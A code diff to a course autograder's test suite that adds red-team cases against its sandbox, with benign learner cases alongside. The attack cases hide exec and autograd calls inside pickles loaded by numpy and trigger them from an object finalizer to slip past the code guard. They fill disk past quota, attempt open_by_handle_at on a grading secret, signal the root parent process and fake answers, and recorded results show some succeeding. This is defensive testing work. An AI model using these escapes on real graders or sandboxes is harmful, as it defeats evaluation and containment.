@@ -862,6 +862,204 @@ class MseModule(Module):
 
 
 # ---------------------------------------------------------------------------------------------------
+# Red team of the sandbox, zygote, cgroup and seed mechanisms (branch redteam). A pickle read with
+# numpy.load(allow_pickle=True) names a function in data, not in code: the scan sees a file being read.
+# Run later by a finalizer that a course cell's own assignment triggers (it rebinds `blk`), code runs
+# with no learner frame on the stack, so the guard lets exec, ctypes, os and files through, and only
+# the sandbox remains.
+import pickle as _pickle
+
+
+def _pickled_call(func, *args) -> str:
+    """The hex of a pickle that calls func(*args) when loaded (protocol 0: GLOBAL then REDUCE)."""
+    class _Call:
+        def __reduce__(self):
+            return func, args
+    return _pickle.dumps(_Call(), protocol=0).hex()
+
+
+def _pickled_global(module: str, name: str) -> str:
+    """The hex of a pickle whose whole content is one global, module.name (the object, not a call)."""
+    return f"c{module}\n{name}\n.".encode().hex()
+
+
+# the checker's own autograd helper, as data
+PICKLED_AG_HELPER = f'''import numpy as np
+with open("helper.bin", "wb") as fh:
+    fh.write(bytes.fromhex("{_pickled_global("checker.lessons.makemore", "autograd_gradients")}"))
+_table = np.load("helper.bin", allow_pickle=True)(setup.params, setup.Xb, setup.Yb, torch.float32)
+'''
+
+# torch.autograd.functional.vjp, as data
+PICKLED_VJP = f'''import numpy as np
+with open("vjp.bin", "wb") as fh:
+    fh.write(bytes.fromhex("{_pickled_global("torch.autograd.functional", "vjp")}"))
+_vjp = np.load("vjp.bin", allow_pickle=True)
+def _g(f, inputs, v):
+    return _vjp(f, inputs, v)[1]
+'''
+
+
+def _deferred(code: str) -> str:
+    """A cell placed before lesson 1's `blk = setup.block("dot")`: `code` runs when that course cell
+    drops the object bound to `blk`, through a pickle that calls exec; its results land in the
+    notebook's namespace (`get_ipython().user_ns`)."""
+    return f'''import functools
+import numpy as np
+with open("later.bin", "wb") as fh:
+    fh.write(bytes.fromhex("{_pickled_call(exec, code, {})}"))
+class _Later:
+    __del__ = functools.partial(np.load, "later.bin", allow_pickle=True)
+_escaped = False
+blk = _Later()
+'''
+
+
+DISK_ESCAPE = _deferred('''
+import os
+ns = get_ipython().user_ns
+private = next(os.path.dirname(line.split()[4]) for line in open("/proc/self/mountinfo")
+               if line.split()[4].endswith("/writes"))
+chunk = bytes(1 << 20)
+for i in range(5):                      # 300 MB, past the 256 MB budget, 60 MB a file
+    with open(os.path.join(private, "big%d" % i), "wb") as fh:
+        for _ in range(60):
+            fh.write(chunk)
+ns["_escaped"] = sum(os.path.getsize(os.path.join(private, "big%d" % i)) for i in range(5)) >= 300 << 20
+''')
+
+HANDLE_ESCAPE = _deferred('''
+import ctypes, os
+ns = get_ipython().user_ns
+libc = ctypes.CDLL(None, use_errno=True)
+course = os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))
+handle, mount = ctypes.create_string_buffer(8 + 128), ctypes.c_int()
+ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
+if libc.name_to_handle_at(-100, (course + "/.grading_secret").encode(), handle, ctypes.byref(mount), 0) == 0:
+    fd = libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY)
+    ns["_escaped"] = fd >= 0 and len(os.read(fd, 64)) > 0
+''')
+
+SIGNAL_ESCAPE = _deferred('''
+import os, signal
+ns = get_ipython().user_ns
+try:
+    os.kill(os.getppid(), 0)            # the zygote, root, that forks every kernel of this worker
+    ns["_escaped"] = True
+except OSError:
+    pass
+''')
+
+# lesson 1's dot, outer, matvec and matmul answered only if the escape worked
+IF_ESCAPED = {
+    "answer_dot": "da = ds * b if _escaped else None\ndb = ds * a if _escaped else None",
+    "answer_outer": "dh = dM @ k if _escaped else None\ndk = dM.T @ h if _escaped else None",
+    "answer_matvec": "dA = torch.outer(dy, v) if _escaped else None\ndv = A.T @ dy if _escaped else None",
+    "answer_matmul": "dX = dY @ W.T if _escaped else None\ndW = X.T @ dY if _escaped else None",
+}
+
+REDTEAM_ATTACKS = {
+    "a04_pickled_autograd_helper": {
+        "lesson": LESSON["04"],
+        "answers": {**ex1_from("_table"), "answer_dlogprobs": PICKLED_AG_HELPER + 'dlogprobs = _table["logprobs"]'},
+        "what": "the checker's autograd_gradients named only inside a pickle read by np.load(allow_pickle=True)",
+        "expect": "0"},
+    "a01_pickled_vjp": {
+        "lesson": LESSON["01"],
+        "answers": {
+            "answer_dot": PICKLED_VJP + "da, db = _g(lambda a, b: a @ b, (a, b), ds)",
+            "answer_outer": "dh, dk = _g(torch.outer, (h, k), dM)",
+            "answer_matvec": "dA, dv = _g(lambda A, v: A @ v, (A, v), dy)",
+            "answer_matmul": "dX, dW = _g(lambda X, W: X @ W, (X, W), dY)",
+            "answer_softmax": "dZ = _g(lambda Z: Z.softmax(1), Z, dP)",
+            "answer_cross_entropy": "dlogits = _g(lambda l: F.cross_entropy(l, target), logits, torch.tensor(1.0))",
+            "answer_batch_cross_entropy": "dQ = _g(lambda Q: F.cross_entropy(Q, C), Q, torch.tensor(1.0))",
+            "answer_mse": "dyhat = _g(lambda y: (y - ytrue).pow(2).mean(), yhat, torch.tensor(1.0))",
+        },
+        "what": "torch.autograd.functional.vjp named only inside a pickle read by np.load(allow_pickle=True)",
+        "expect": "0"},
+    "a01_disk_past_budget": {
+        "lesson": LESSON["01"], "answers": IF_ESCAPED, "extra_cells": [("before:code_014", DISK_ESCAPE)],
+        "what": "unguarded code (a pickled exec run by a finalizer a course cell triggers) writes 300 MB to the "
+                "kernel's private folder, on the real disk; answers only if that worked",
+        "expect": "0"},
+    "a01_open_by_handle": {
+        "lesson": LESSON["01"], "answers": IF_ESCAPED, "extra_cells": [("before:code_014", HANDLE_ESCAPE)],
+        "what": "unguarded code uses the kept CAP_DAC_READ_SEARCH (open_by_handle_at) to read .grading_secret; "
+                "answers only if that worked",
+        "expect": "0"},
+    "a01_signal_zygote": {
+        "lesson": LESSON["01"], "answers": IF_ESCAPED, "extra_cells": [("before:code_014", SIGNAL_ESCAPE)],
+        "what": "unguarded code signals its parent, the root zygote that forks every kernel; answers only if "
+                "that worked",
+        "expect": "0"},
+}
+
+REDTEAM_RIGHT = {
+    "r01_savefig_and_torch_save": {
+        "lesson": LESSON["01"], "solutions_for_rest": True,
+        "extra_cells": [("after:check_matmul_dW", '''import matplotlib.pyplot as plt
+fig, ax = plt.subplots(figsize=(4, 3))
+ax.imshow(dW, cmap="RdBu_r")
+ax.set_title("my dW")
+plt.savefig("dW.png")
+plt.close(fig)
+torch.save({"dX": dX, "dW": dW}, "my_matmul_grads.pt")
+back = torch.load("my_matmul_grads.pt")
+assert torch.equal(back["dW"], dW)
+print("saved and reloaded", sorted(back))''')],
+        "what": "a figure saved with plt.savefig and the learner's own tensors through torch.save/torch.load",
+        "expect": "full"},
+    "r01_csv_log_os_pathlib": {
+        "lesson": LESSON["01"], "solutions_for_rest": True,
+        "extra_cells": [("after:check_dot_db", '''import os
+import csv
+from pathlib import Path
+print("working in", os.getcwd())
+with open("grad_log.csv", "w", newline="") as fh:
+    w = csv.writer(fh)
+    w.writerow(["name", "norm"])
+    for name, t in [("da", da), ("db", db)]:
+        w.writerow([name, f"{t.norm().item():.6f}"])
+print(list(csv.reader(open("grad_log.csv"))))
+print(sorted(p.name for p in Path(".").iterdir()))''')],
+        "what": "a CSV log of the gradients' norms written with csv, read back, and the folder listed with os and pathlib",
+        "expect": "full"},
+    "r01_tempfile_json": {
+        "lesson": LESSON["01"], "solutions_for_rest": True,
+        "extra_cells": [("after:check_outer_dk", '''import tempfile, json
+with tempfile.TemporaryDirectory() as d:
+    path = d + "/outer.json"
+    with open(path, "w") as fh:
+        json.dump({"dh": dh.tolist(), "dk": dk.tolist()}, fh)
+    with open(path) as fh:
+        print("round trip ok:", torch.allclose(torch.tensor(json.load(fh)["dh"]), dh))''')],
+        "what": "answers round-tripped through JSON in a tempfile.TemporaryDirectory",
+        "expect": "full"},
+    "r01_helpers_time_magic": {
+        "lesson": LESSON["01"], "solutions_for_rest": True,
+        "answers": {
+            "answer_matmul": "%time dX, dW = matmul_grads(X, W, dY)",
+            "answer_softmax": "dZ = softmax_rows_backward(P, dP)",
+            "answer_mse": "n_samples = len(yhat)\nresidual = yhat - ytrue\ndyhat = residual * (2.0 / n_samples)",
+        },
+        "extra_cells": [("before:answer_matmul", '''# my helpers, in a cell of their own
+def matmul_grads(X, W, dY):
+    """Y = X @ W  ->  (dX, dW)"""
+    return dY @ W.transpose(0, 1), X.transpose(0, 1) @ dY
+
+def softmax_rows_backward(P, dP):
+    inner = (P * dP).sum(dim=1, keepdim=True)
+    return P * (dP - inner)''')],
+        "what": "helpers in a cell of their own, %time on an answer line, other names for the MSE's pieces",
+        "expect": "full"},
+}
+
+ATTACKS.update(REDTEAM_ATTACKS)
+RIGHT.update(REDTEAM_RIGHT)
+
+
+# ---------------------------------------------------------------------------------------------------
 def _where(cells, where):
     from checker.grading.notebooks import nbgrader_meta
 
@@ -976,4 +1174,14 @@ OBSERVED = {
     "r03_module_backward_super": "11/26 flagged: `super().backward(dout)` in the learner's own Module",
     "r07_solution_as_released": "9/11 (training judged against the full-mode val goal 2.11 after fast-mode training); fast: 11/11",
     "r07_list_loop_embedding": "9/11 (same training bug)",
+    # red team of the sandbox, zygote, cgroups and seeds (redteam branch, 2d9de6b's checker), make grade --jobs 2
+    "a04_pickled_autograd_helper": "26/26 graded: no flag, no review (the scan never sees a name inside a pickle)",
+    "a01_pickled_vjp": "13/28 graded: every vjp answer scored",
+    "a01_disk_past_budget": "8/28 graded: 300 MB landed in /tmp/backprop-ninja-kernels-0/k*/ on the real disk",
+    "a01_open_by_handle": "0/28 graded: open_by_handle_at gets EACCES from Landlock (the sandbox holds)",
+    "a01_signal_zygote": "0/28 graded: kill(ppid, 0) gets EPERM (the sandbox holds)",
+    "r01_csv_log_os_pathlib": "9/28 flagged: the guard refuses `import os` and the rules zero every check after it",
+    "r01_tempfile_json": "11/28 flagged: the guard refuses `import tempfile`",
+    "r01_helpers_time_magic": "26/28 for review: the guard refuses %time's compile, so dX and dW are never assigned",
+    "r01_savefig_and_torch_save": "28/28 graded",
 }
